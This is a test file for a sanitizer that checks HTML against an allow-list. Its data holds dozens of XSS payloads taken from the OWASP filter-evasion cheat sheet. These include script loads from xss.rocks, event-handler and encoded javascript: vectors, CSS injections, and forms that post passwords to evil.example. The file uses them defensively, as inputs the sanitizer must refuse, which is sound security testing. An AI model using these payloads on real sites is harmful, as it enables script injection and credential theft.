/**
 * What a section's drawn page may hold (@portal/build/sectionHtml, shared/build/sectionHtml.mts; issue 86): judged by the WHATWG HTML parser
 * against an allow-list, so that every way a browser would read a script, a handler or a load out of it is refused.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sectionHtmlProblem } from '@portal/build/sectionHtml';

/** What the sections' builds draw (MUI's markup, an icon, a form with no address, a section answer, emotion's styles). */
const DRAWN = `<style data-emotion="css 1a2b">.css-1a2b{margin:0;font-family:"Roboto","Helvetica",sans-serif;}.css-u9dx8b:empty:before{content:"\\00a0";}</style>
<section aria-labelledby="t" class="MuiBox-root css-1a2b" data-balance-drawing=""><h2 id="t">Balance</h2>
<ul aria-label="Balance summary"><li><h3>E-Cash</h3><p data-balance-figure="cash">$12.50</p></li></ul>
<svg class="MuiSvgIcon-root" focusable="false" aria-hidden="true" viewBox="0 0 24 24"><path d="M12 2C6.48 2 2 6.48 2 12"></path><circle cx="12" cy="12" r="3"></circle></svg>
<form noValidate="" aria-busy="false" data-early-texts="{&quot;required&quot;:&quot;Password is required&quot;}"><label for="p">Password</label>
<input id="p" name="password" type="password" autocomplete="new-password" required=""><input type="date" min="2026-01-01">
<select name="card"><option value="1" selected="">10000001</option></select><textarea rows="4"></textarea>
<button type="submit" class="MuiButton-root" tabindex="0">Reset</button></form>
<a href="/home/reload">Reload</a><a href="https://transit.example/help?x=1#a">Help</a><a href="mailto:help@transit.example">Mail</a>
<template data-section-answer="balance"><p>$12.50</p></template></section>`;

test("what the sections' builds draw is allowed", () => {
  assert.equal(sectionHtmlProblem(DRAWN), null);
});

test('a slash as the separator of an attribute is an attribute like any other (the forms a pattern missed)', () => {
  for (const html of [
    '<svg/onload=alert(1)>',
    '<form/action=javascript:alert(1)><button>x</button></form>',
    '<form/action="https://evil.example/steal"><input name=password></form>',
    '<svg/x/onload=alert(1)>',
    '<div/onmouseover="alert(1)">x</div>',
    '<a/href="javascript:alert(1)">x</a>',
    '<input/formaction=https://evil.example type=submit>',
    '<button/formaction=javascript:alert(1)>x</button>',
  ])
    assert.notEqual(sectionHtmlProblem(html), null, html);
});

/**
 * A published list of XSS vectors: the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), those that apply to HTML put
 * into a page, each as the sheet writes it.
 */
const OWASP = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Click Me!</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">Click Me</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">Click Me</a>',
  '<a href="jav\tascript:alert(\'XSS\');">Click Me</a>',
  '<a href="jav&#x09;ascript:alert(\'XSS\');">Click Me</a>',
  '<a href="jav&#x0A;ascript:alert(\'XSS\');">Click Me</a>',
  '<a href="jav&#x0D;ascript:alert(\'XSS\');">Click Me</a>',
  '<a href=" &#14;  javascript:alert(\'XSS\');">Click Me</a>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT ="blah" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<A HREF="//www.google.com/">XSS</A>',
  '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<template><script>alert(1)</script></template>',
  '<template data-section-answer="x"><template data-section-answer="y"></template></template>',
  '<details open ontoggle=alert(1)>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<form><button formaction="https://evil.example">x</button></form>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<a href="https://evil.example" target="_blank">x</a>',
  '<input type="image" src="https://evil.example/x.png">',
  '<div style="background:u\\72l(https://evil.example/x)">',
  // What would take in the page after it, or end the template the page holds it in.
  '</template><h1>Shown out of its language</h1>',
  '<template data-section-answer="x"><p>never closed',
  '<textarea>never closed',
  '<style>.a{}',
  '<!-- never closed',
  '<a href="/home>never closed',
  "<p title='never closed>",
  '<select><option>never closed',
];

test('every vector of the OWASP XSS Filter Evasion Cheat Sheet that applies is refused, each naming why', () => {
  for (const html of OWASP) {
    const problem = sectionHtmlProblem(html);
    assert.equal(typeof problem, 'string', html);
  }
  assert.equal(sectionHtmlProblem("<IMG SRC=javascript:alert('XSS')>"), '<img> is not allowed');
  assert.equal(sectionHtmlProblem('<a onmouseover=alert(document.cookie)>x</a>'), '<a onmouseover> is not allowed');
  assert.equal(sectionHtmlProblem('<DIV STYLE="width: expression(alert(\'XSS\'));">'), '<div style> loads or hides something');
});

test('links: relative, http(s), mailto and tel; never javascript:, data: or protocol-relative, however spelled', () => {
  for (const ok of ['/home', '?q=1', '#top', 'page.html', 'https://a.example/', 'HTTP://a.example', 'tel:+15555550100'])
    assert.equal(sectionHtmlProblem(`<a href="${ok}">x</a>`), null, ok);
  for (const bad of [
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html,x',
    '//evil.example',
    'vbscript:x',
    '\\\\evil.example',
  ])
    assert.notEqual(sectionHtmlProblem(`<a href="${bad}">x</a>`), null, bad);
  assert.notEqual(sectionHtmlProblem('<div href="/home">x</div>'), null);
});
